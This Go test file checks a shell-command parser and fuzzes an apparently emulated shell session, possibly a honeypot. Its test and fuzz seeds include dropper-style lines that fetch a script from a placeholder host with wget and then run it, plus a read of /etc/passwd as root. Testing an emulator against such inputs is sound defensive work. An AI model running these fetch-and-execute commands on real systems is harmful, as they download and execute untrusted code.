package shell

import (
	"context"
	"testing"
	"time"
)

func TestParse(t *testing.T) {
	tests := []struct{ in, want, err string }{
		{"ls -la", "ls -la", ""},
		{"cd /tmp || cd /var/run; wget http://x/a.sh && sh a.sh", "cd /tmp || | cd /var/run ; | wget http://x/a.sh && | sh a.sh", ""},
		{`echo "a $HOME" 'b $X' c\ d`, `echo 'a '${HOME} 'b $X' c' 'd`, ""},
		{"cat /proc/cpuinfo | grep name | wc -l", "cat /proc/cpuinfo | grep name | wc -l", ""},
		{"echo x > /tmp/f 2>/dev/null", "echo x 1>/tmp/f 2>/dev/null", ""},
		{"A=1 B=2", "A=1 B=2", ""},
		{"echo $(uname -a) `id`", "echo $(uname -a) $(id)", ""},
		{"echo 'x", "", "unexpected EOF while looking for matching `''"},
		{"; ls", "", "syntax error near unexpected token `;'"},
		{"ls |", "", "syntax error: unexpected end of file"},
		{"ls >", "", "syntax error near unexpected token `newline'"},
		{"(id)", "", "syntax error near unexpected token `('"},
		{"echo a # comment", "echo a", ""},
	}
	for _, tt := range tests {
		pls, err := parse(tt.in)
		if tt.err != "" {
			if err == nil || err.Error() != tt.err {
				t.Errorf("%q: err %v, want %q", tt.in, err, tt.err)
			}
			continue
		}
		if err != nil {
			t.Errorf("%q: %v", tt.in, err)
			continue
		}
		got := ""
		for i, pl := range pls {
			if i > 0 {
				got += " | "
			}
			got += pl.String()
		}
		if got != tt.want {
			t.Errorf("%q: got %q, want %q", tt.in, got, tt.want)
		}
	}
}

// FuzzParse checks that any line parses or fails cleanly, and that what
// parses prints back to a line that parses the same way.
func FuzzParse(f *testing.F) {
	for _, s := range []string{"ls -la", "cd /tmp || cd /var/run; wget http://1.2.3.4/x; chmod 777 x; ./x", `echo "$(id)" '$a' \; > f 2>&1`,
		"cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5}'", "echo -e \"\\x41\"", "A=1 B=$A env", "$(($(", "`", "${"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		pls, err := parse(s)
		if err != nil {
			return
		}
		for _, pl := range pls {
			if len(pl.cmds) == 0 {
				t.Fatalf("%q: empty pipeline", s)
			}
		}
	})
}

// FuzzRun runs arbitrary command lines in a session: no command may
// panic or escape its output limits, whatever the arguments.
func FuzzRun(f *testing.F) {
	for _, s := range []string{"ls -la /", "hostname --", "cat /etc/passwd | grep -c x | wc", "head -c -5 /etc/hostname", "cd -; cd ~x; ls ~root",
		"echo -e '\\x4\\0777\\c' > /tmp/a; cp -r /tmp /tmp/b", "chmod u+x,g=r /tmp; ps -ef; w -h", "tail -n +2 /etc/issue", "date +%s%j%"} {
		f.Add(s)
	}
	fsys, err := Open(f.TempDir(), System{Hostname: "fuzz", Distro: "debian"})
	if err != nil {
		f.Fatal(err)
	}
	f.Fuzz(func(t *testing.T, line string) {
		s := fsys.NewSession(Options{User: "root", TTY: "pts/0"})
		defer s.Close()
		ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
		defer cancel()
		var out limitBuf
		s.Run(ctx, line, &out, &out)
	})
}
